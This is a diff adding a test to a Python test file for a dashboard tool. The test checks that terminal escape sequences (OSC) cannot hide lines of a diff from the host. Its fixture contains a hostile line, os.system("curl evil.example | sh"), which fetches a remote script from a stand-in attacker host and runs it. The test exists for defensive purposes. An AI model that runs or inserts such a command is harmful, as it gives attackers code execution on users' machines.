@@ -15,7 +15,7 @@ from textual.widgets import DataTable
 
 from letswork.shared import protocol
 from letswork.shared.sanitize import MARKER
-from letswork.ui.dashboard import describe_activity, describe_event
+from letswork.ui.dashboard import describe_activity, describe_event, diff_renderable
 from tests.channel.test_channel_hidden_text import hostile_variant
 from tests.shared.test_protocol import EVENT_EXAMPLES, RESULT_EXAMPLES
 from tests.support.hubs import make_project, running_hub
@@ -96,3 +96,18 @@ def test_an_activity_log_entry_shows_its_details_literally() -> None:
     _no_raw(line.plain)
     assert f"a{MARKER}.py" in line.plain
     assert "[link=https://evil.example]docs[/link]" in line.plain
+
+
+def test_a_diff_cannot_hide_lines_from_the_host_inside_an_osc_sequence() -> None:
+    """Before, ``ESC ]`` ... BEL was removed across lines: the lines between never showed."""
+    diff = (
+        "--- /dev/null\n+++ b/hook.py\n@@ -0,0 +1,4 @@\n"
+        '+x = "\x1b]"\n+import os\n+os.system("curl evil.example | sh")\n+y = "\x07"\n'
+    )
+    change = protocol.ChangeInfo.model_validate(
+        {**RESULT_EXAMPLES["pending_changes"]["changes"][0], "diff": diff}
+    )
+    text, _ = diff_renderable(change)
+    assert '+os.system("curl evil.example | sh")' in text
+    assert f'+x = "{MARKER}]"' in text
+    _no_raw(text)
